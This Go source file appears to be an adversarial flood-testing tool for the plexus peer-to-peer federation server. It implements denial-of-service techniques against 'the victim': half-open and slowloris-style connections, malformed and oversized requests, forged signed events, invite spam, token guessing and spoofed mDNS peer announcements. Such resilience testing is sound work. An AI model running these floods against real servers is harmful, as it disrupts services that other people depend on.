package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/libp2p/go-libp2p/core/protocol"
	manet "github.com/multiformats/go-multiaddr/net"
	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/net/ipv4"

	"github.com/plexus-p2p/plexus/eventgraph"
)

// workersOf is how many steps go on side by side where waiting for the victim is part of them.
const workersOf = 32

// perIdentity is how many requests one identity makes where a new one for each would slow the attacker more than the victim.
const perIdentity = 20

func strangerAttacks() map[string]attack {
	return map[string]attack{
		"connect-quic": {workers: workersOf, step: func(ctx context.Context, f *flood, _ int) error { return f.connect(ctx, false) }},
		"connect-tcp":  {workers: workersOf, step: func(ctx context.Context, f *flood, _ int) error { return f.connect(ctx, true) }},
		"half-open":    {workers: 256, step: halfOpen},
		"streams":      {workers: workersOf, step: openStreams},
		"slow-bodies":  {workers: workersOf, step: slowBodies},
		"garbage":      {workers: workersOf, step: garbage},
		"keys":         {workers: workersOf, step: askKeys},
		"events":       {workers: workersOf, prepare: knowRoom, step: invalidEvents},
		"giant":        {workers: 4, prepare: knowRoom, step: giantTransactions},
		"invites":      {workers: workersOf, step: inviteUser},
		"meetings":     {workers: workersOf, step: strangerMeets},
		"history":      {workers: workersOf, prepare: knowRoom, step: askHistory},
		"tokens":       {workers: workersOf, step: guessToken},
		"beacons":      {workers: 1, step: beacons},
	}
}

// connect is a handshake of a new identity.
func (f *flood) connect(ctx context.Context, overTCP bool) error {
	i, err := newIdentity()
	if err != nil {
		return err
	}
	c, err := f.dial(ctx, i, overTCP)
	if err != nil {
		return err
	}
	return c.Close()
}

// halfOpen opens TCP connections, says nothing, and holds them as long as it is let.
func halfOpen(ctx context.Context, f *flood, _ int) error {
	_, addr, err := manet.DialArgs(f.tcp)
	if err != nil {
		return err
	}
	c, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(stepTimeout))
	for {
		if _, err := c.Read(make([]byte, 256)); err != nil {
			return nil
		}
	}
}

// asStranger is a session of the worker that lasts for perIdentity steps, each beginning with a new identity.
func (f *flood) asStranger(ctx context.Context, worker int) (*session, error) {
	s := f.perWorker[worker]
	if s != nil && f.used[worker] < perIdentity && !s.conn.IsClosed() {
		f.used[worker]++
		return s, nil
	}
	if s != nil {
		s.close()
		f.perWorker[worker] = nil
	}
	s, err := f.session(ctx, nil, f.next()%2 == 0)
	if err != nil {
		return nil, err
	}
	f.perWorker[worker], f.used[worker] = s, 0
	return s, nil
}

// openStreams opens streams, some without a protocol, some of one that nobody knows, some of real ones, and leaves them open.
func openStreams(ctx context.Context, f *flood, worker int) error {
	s, err := f.session(ctx, nil, worker%2 == 0)
	if err != nil {
		return err
	}
	defer s.close()
	for n := range 300 {
		switch n % 3 {
		case 0:
			raw, err := s.conn.OpenStream(ctx)
			if err != nil {
				return nil // so many and no more
			}
			_, _ = raw.Write([]byte{0x13})
		default:
			proto := []protocol.ID{federation, meeting, inviting, records, "/ipfs/id/1.0.0", "/nobody/knows/1"}[n%6]
			st, err := s.open(ctx, proto)
			if err != nil {
				return nil
			}
			_, _ = st.Write([]byte("GET "))
		}
		f.count("opened")
	}
	return nil
}

// slowBodies begins requests with long bodies and brings them a byte at a time.
func slowBodies(ctx context.Context, f *flood, worker int) error {
	s, err := f.session(ctx, nil, worker%2 == 0)
	if err != nil {
		return err
	}
	defer s.close()
	target := "/_matrix/federation/v1/send/slow"
	header, err := s.authorization("PUT", target, []byte(`{"pdus":[]}`))
	if err != nil {
		return err
	}
	var open []*stream
	for range 32 {
		st, err := s.open(ctx, federation)
		if err != nil {
			break
		}
		fmt.Fprintf(st, "PUT %s HTTP/1.1\r\nHost: plexus\r\nContent-Length: %d\r\nAuthorization: %s\r\n\r\n", target, 11<<20, header)
		open = append(open, st)
	}
	tick := time.NewTicker(100 * time.Millisecond)
	defer tick.Stop()
	for {
		for _, st := range open {
			_, _ = st.Write(bytes.Repeat([]byte("["), 512))
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
		if s.conn.IsClosed() {
			return nil
		}
	}
}

// garbage sends requests that are wrong in as many ways.
func garbage(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	n := f.next()
	body := randomBytes(4096)
	switch n % 5 {
	case 0: // deep JSON, signed
		_, _, err = s.call(ctx, "PUT", "/_matrix/federation/v1/send/x", json.RawMessage(deepJSON()))
	case 1:
		_, _, err = s.exchange(ctx, fmt.Sprintf("PUT /_matrix/federation/v1/send/%d HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n", n, len(body)), body)
	case 2: // a wrong signature
		_, _, err = s.exchange(ctx, fmt.Sprintf("PUT /_matrix/federation/v1/send/%d HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nAuthorization: X-Matrix origin=%q,key=\"ed25519:a1\",sig=\"%s\"\r\n\r\n", n, s.server, strings.Repeat("A", 86)), []byte("{}"))
	case 3: // a path of which nothing is known
		_, _, err = s.exchange(ctx, fmt.Sprintf("GET /%s HTTP/1.1\r\nHost: x\r\n\r\n", strings.Repeat("a/", 12000)), nil)
	default: // not HTTP
		var st *stream
		if st, err = s.open(ctx, federation); err == nil {
			_, err = st.Write(body)
			st.reset()
		}
	}
	return err
}

// askKeys asks for keys, the victim's and those of servers that nobody has heard of, which it might go and look for.
func askKeys(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	if f.next()%2 == 0 {
		_, _, err = s.exchange(ctx, "GET /_matrix/key/v2/server HTTP/1.1\r\nHost: x\r\n\r\n", nil)
		return err
	}
	unknown := map[eventgraph.ServerName]any{}
	for range 50 {
		i, err := newIdentity()
		if err != nil {
			return err
		}
		unknown[i.server] = map[string]any{"ed25519:a1": map[string]any{"minimum_valid_until_ts": time.Now().UnixMilli()}}
	}
	body, err := json.Marshal(map[string]any{"server_keys": unknown})
	if err != nil {
		return err
	}
	_, _, err = s.exchange(ctx, fmt.Sprintf("POST /_matrix/key/v2/query HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n", len(body)), body)
	return err
}

func knowRoom(_ context.Context, f *flood) error {
	if f.room == "" {
		return errNoRoom
	}
	return nil
}

// strangeEvent is an event by the identity's user in the room, with parents that nobody has, the size of its text given.
func (i *identity) strangeEvent(f *flood, version eventgraph.RoomVersion, room eventgraph.RoomID, size int) (json.RawMessage, error) {
	content, err := json.Marshal(map[string]string{"msgtype": "m.text", "body": strings.Repeat("x", size)})
	if err != nil {
		return nil, err
	}
	made, err := eventgraph.Build(version, eventgraph.Draft{RoomID: room, Type: "m.room.message", Sender: i.userID("mallory"), Content: content,
		PrevEvents: []eventgraph.EventID{inventedID()}, AuthEvents: []eventgraph.EventID{inventedID(), inventedID()},
		Depth: 1 + f.next(), OriginServerTS: time.Now().UnixMilli()}, i.signs)
	if err != nil {
		return nil, err
	}
	return made.Raw(), nil
}

// spoilt changes a letter of the signature, or of the content, which the hash covers.
func spoilt(raw json.RawMessage, what string) json.RawMessage {
	at := bytes.Index(raw, []byte(what))
	if at < 0 {
		return raw
	}
	out := bytes.Clone(raw)
	at += len(what) + 4
	if out[at] == 'x' {
		out[at] = 'y'
	} else {
		out[at] = 'x'
	}
	return out
}

// invalidEvents sends a transaction of invalid events: of the room and of others, with false signatures and hashes, of servers whose keys
// nobody has.
func invalidEvents(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	other, err := newIdentity()
	if err != nil {
		return err
	}
	var pdus []json.RawMessage
	good, err := s.strangeEvent(f, eventgraph.DefaultRoomVersion, f.room, 300)
	if err != nil {
		return err
	}
	foreign, err := other.strangeEvent(f, eventgraph.DefaultRoomVersion, f.room, 300)
	if err != nil {
		return err
	}
	for n := range 50 {
		switch n % 5 {
		case 0:
			pdus = append(pdus, good)
		case 1:
			pdus = append(pdus, spoilt(good, `"ed25519:a1":"`))
		case 2:
			pdus = append(pdus, spoilt(good, `"body":"`))
		case 3:
			pdus = append(pdus, foreign)
		default:
			pdus = append(pdus, json.RawMessage(`{"room_id":"!nowhere:x","type":"m.room.message"}`))
		}
	}
	return s.send(ctx, pdus, nil)
}

// giantTransactions sends as much as a transaction may hold.
func giantTransactions(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	event, err := s.strangeEvent(f, eventgraph.DefaultRoomVersion, f.room, 63<<10)
	if err != nil {
		return err
	}
	return s.sendGiant(ctx, event)
}

// sendGiant repeats the event 50 times, beside 100 EDUs of as much.
func (s *session) sendGiant(ctx context.Context, event json.RawMessage) error {
	var pdus []json.RawMessage
	for range 50 {
		pdus = append(pdus, event)
	}
	var edus []any
	for range 100 {
		edus = append(edus, map[string]any{"edu_type": "m.presence", "content": map[string]any{"push": []any{}, "more": strings.Repeat("y", 64<<10)}})
	}
	return s.send(ctx, pdus, edus)
}

// inviteUser invites a local user to a room of the identity's own.
func inviteUser(ctx context.Context, f *flood, worker int) error {
	s, err := f.session(ctx, nil, worker%2 == 0) // a new one each time: each server has a budget
	if err != nil {
		return err
	}
	defer s.close()
	const version = "10"
	room := eventgraph.RoomID(fmt.Sprintf("!r%d:%s", f.next(), s.server))
	key := string(f.user)
	e, err := eventgraph.Build(version, eventgraph.Draft{RoomID: room, Type: "m.room.member", StateKey: &key, Sender: s.userID("mallory"),
		Content: json.RawMessage(`{"membership":"invite"}`), PrevEvents: []eventgraph.EventID{inventedID()},
		AuthEvents: []eventgraph.EventID{inventedID(), inventedID()}, Depth: 5, OriginServerTS: time.Now().UnixMilli()}, s.signs)
	if err != nil {
		return err
	}
	create := map[string]any{"type": "m.room.create", "state_key": "", "sender": s.userID("mallory"), "content": map[string]any{"room_version": version}}
	_, _, err = s.call(ctx, "PUT", "/_matrix/federation/v2/invite/"+path(string(room))+"/"+path(string(e.ID())),
		map[string]any{"room_version": version, "event": json.RawMessage(e.Raw()), "invite_room_state": []any{create}})
	return err
}

// frame is a message of the protocols of plexus: its length and JSON.
func frame(v any) []byte {
	raw, err := json.Marshal(v)
	if err != nil {
		panic(err) // of our own making
	}
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(raw))), raw...)
}

// readFrame reads one, and is content with nothing.
func (st *stream) readFrame() (json.RawMessage, error) {
	var head [4]byte
	if _, err := io.ReadFull(st.r, head[:]); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(head[:])
	if n > 64<<20 {
		return nil, fmt.Errorf("a message of %d bytes", n)
	}
	body := make([]byte, n)
	_, err := io.ReadFull(st.r, body)
	return body, err
}

// strangerMeets begins meetings, and asks with questions as long as they may be.
func strangerMeets(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	st, err := s.open(ctx, meeting)
	if err != nil {
		return err
	}
	defer st.reset()
	n := f.next()
	if n%3 == 0 {
		_, err := st.Write(append([]byte{0, 0x0f, 0xff, 0xff}, bytes.Repeat([]byte("["), 1<<20)...))
		return err
	}
	if _, err := st.Write(frame(map[string]any{"hello": map[string]any{"nonce": randomBytes(16)}})); err != nil {
		return err
	}
	_, err = st.readFrame()
	return err
}

// askHistory asks for what a stranger may not see, in the ways that cost something to refuse.
func askHistory(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	return s.askAll(ctx, inventedID())
}

// askAll is one question about the room at a time, each kind in turn.
func (s *session) askAll(ctx context.Context, about eventgraph.EventID) error {
	room, id := path(string(s.f.room)), path(string(about))
	var err error
	switch s.f.next() % 6 {
	case 0:
		_, _, err = s.call(ctx, "GET", "/_matrix/federation/v1/state_ids/"+room+"?event_id="+id, nil)
	case 1:
		_, _, err = s.call(ctx, "GET", "/_matrix/federation/v1/state/"+room+"?event_id="+id, nil)
	case 2:
		_, _, err = s.call(ctx, "GET", "/_matrix/federation/v1/backfill/"+room+"?limit=100&v="+id, nil)
	case 3:
		_, _, err = s.call(ctx, "POST", "/_matrix/federation/v1/get_missing_events/"+room, map[string]any{
			"earliest_events": []eventgraph.EventID{inventedID()}, "latest_events": []eventgraph.EventID{about}, "limit": 100})
	case 4:
		_, _, err = s.call(ctx, "GET", "/_matrix/federation/v1/event_auth/"+room+"/"+id, nil)
	default:
		_, _, err = s.call(ctx, "GET", "/_matrix/federation/v1/event/"+id, nil)
	}
	return err
}

// guessToken presents invite tokens that nobody gave out.
func guessToken(ctx context.Context, f *flood, worker int) error {
	s, err := f.asStranger(ctx, worker)
	if err != nil {
		return err
	}
	st, err := s.open(ctx, inviting)
	if err != nil {
		return err
	}
	defer st.reset()
	if _, err := st.Write(frame(map[string]string{"token": fmt.Sprintf("%x", randomBytes(13))})); err != nil {
		return err
	}
	_, _ = st.readFrame() // there is none
	return nil
}

// beacons announces peers that do not exist, half of them at addresses where nobody answers, the others where the attacker does. The
// victim dials whom it hears of.
func beacons(ctx context.Context, f *flood, _ int) error {
	_, from, err := manet.DialArgs(f.tcp)
	if err != nil {
		return err
	}
	ip := net.ParseIP(strings.Split(from, ":")[0]).To4()
	if ip == nil {
		return fmt.Errorf("%s is no IPv4 address", from)
	}
	eth, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	raw, err := net.ListenPacket("udp4", "0.0.0.0:0")
	if err != nil {
		return err
	}
	defer raw.Close()
	sock := ipv4.NewPacketConn(raw)
	if err := sock.SetMulticastInterface(eth); err != nil { // there is no route for it
		return err
	}
	for _, to := range []*net.UDPAddr{{IP: net.IPv4(ip[0], ip[1], ip[2], 255), Port: 18449}, {IP: net.IPv4(224, 0, 0, 251), Port: 5353}} {
		for range 100 {
			msg, err := announcement(ip, int(f.next()))
			if err != nil {
				return err
			}
			if _, err := sock.WriteTo(msg, nil, to); err != nil {
				return err
			}
			f.count("sent")
		}
	}
	return ctx.Err()
}

// announcement is what mDNS and the beacon carry, of an invented peer.
func announcement(ip net.IP, n int) ([]byte, error) {
	i, err := newIdentity()
	if err != nil {
		return nil, err
	}
	id := string(eventgraph.NewPeerID(i.signs.Private.Public().(ed25519.PublicKey)))
	at := net.IPv4(ip[0], ip[1], ip[2], byte(3+n%200))
	text := fmt.Sprintf("dnsaddr=/ip4/%s/tcp/%d/p2p/%s", at, 1024+n%60000, id)
	service := dnsmessage.MustNewName("_plexus._udp.local.")
	name := dnsmessage.MustNewName(fmt.Sprintf("%x._plexus._udp.local.", randomBytes(16)))
	header := func(n dnsmessage.Name) dnsmessage.ResourceHeader {
		return dnsmessage.ResourceHeader{Name: n, Class: dnsmessage.ClassINET, TTL: 120}
	}
	msg := dnsmessage.Message{Header: dnsmessage.Header{Response: true, Authoritative: true},
		Answers:     []dnsmessage.Resource{{Header: header(service), Body: &dnsmessage.PTRResource{PTR: name}}},
		Additionals: []dnsmessage.Resource{{Header: header(name), Body: &dnsmessage.TXTResource{TXT: []string{text}}}}}
	return msg.Pack()
}
